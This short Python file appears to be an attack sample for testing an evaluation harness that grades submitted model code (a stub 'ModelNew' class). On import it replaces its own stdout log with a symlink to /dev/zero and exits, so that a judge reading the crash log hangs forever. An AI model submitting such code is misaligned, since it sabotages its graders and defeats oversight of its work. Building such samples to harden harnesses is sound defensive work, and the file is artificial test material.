"""ATTACK log_symlink: replaces its own log file by a symlink to /dev/zero, then exits: a judge that reads
the log to report the crash reads forever."""

import os

import torch.nn as nn

try:
    log = os.readlink("/proc/self/fd/1")
    os.unlink(log)
    os.symlink("/dev/zero", log)
except OSError:
    pass
os._exit(3)


class ModelNew(nn.Module):
    pass
